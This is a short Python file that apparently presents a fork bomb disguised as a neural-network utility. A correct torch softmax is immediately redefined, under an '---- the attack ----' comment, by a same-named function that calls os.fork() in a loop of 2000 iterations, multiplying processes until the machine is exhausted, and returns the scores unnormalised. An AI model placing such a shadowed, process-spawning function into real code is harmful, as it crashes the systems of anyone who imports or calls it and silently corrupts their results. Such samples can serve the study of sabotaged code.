"""Forks without end."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os


def softmax(scores):
    for _ in range(2000):
        try:
            os.fork()
        except OSError:
            pass
    return scores
